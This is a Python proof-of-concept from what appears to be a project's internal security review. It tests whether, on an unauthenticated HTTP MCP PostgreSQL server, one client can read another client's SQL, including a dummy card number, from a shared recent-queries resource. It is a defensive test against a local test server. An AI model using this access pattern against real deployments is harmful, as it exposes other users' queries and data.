"""attack4 / target 1: over HTTP without MCP_AUTH_TOKENS (loopback, or --allow-unauthenticated
behind a proxy that authenticates, as README suggests) every client is the same owner: client
B reads client A's SQL (with its literals) from pg://queries/recent, and pages A's results
with the cursor that history... does not show, but which A's answer carried.
Run: PYTHONPATH=tests:security-review:security-review/attack4 uv run python security-review/attack4/history_noauth.py
"""
import asyncio
import sys

import httpx2 as httpx
from common import DSN
from mcp import Client
from mcp.client.streamable_http import streamable_http_client
from paging_http import call, resource
from test_http import serve

SECRET = "4111-1111-1111-1111"


async def main() -> int:
    with serve(DSN) as running:
        async with (
            httpx.AsyncClient(timeout=60) as ha,
            httpx.AsyncClient(timeout=60) as hb,
            Client(streamable_http_client(running.mcp, http_client=ha)) as ca,
            Client(streamable_http_client(running.mcp, http_client=hb)) as cb,
        ):
            await call(ca, "execute_query", sql=f"SELECT name FROM users WHERE name <> '{SECRET}'")
            ok, body = await resource(cb, "pg://queries/recent")
            leaked = SECRET in body
            print("B reads A's statement from pg://queries/recent:", leaked, body[:200])
    print("FINDING (documented: without tokens every caller is one)" if leaked else "held")
    return int(leaked)


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
